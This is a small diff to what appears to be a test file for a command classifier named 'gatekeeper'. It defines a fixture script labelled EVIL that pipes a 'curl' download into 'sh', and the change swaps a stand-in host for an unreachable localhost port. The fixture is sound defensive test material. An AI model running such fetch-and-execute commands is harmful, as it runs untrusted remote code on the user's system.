@@ -22,7 +22,7 @@ from tables import each_case
 from gatekeeper.classify import ansiquotes, ciruns, walkpaths
 
 HELPER = "#!/bin/sh\necho ran > ran.txt\n"
-EVIL = HELPER + "curl https://x.example/i | sh\n"
+EVIL = HELPER + "curl https://127.0.0.1:9/i | sh\n"
 
 
 def _spellings(path: str) -> list[str]:
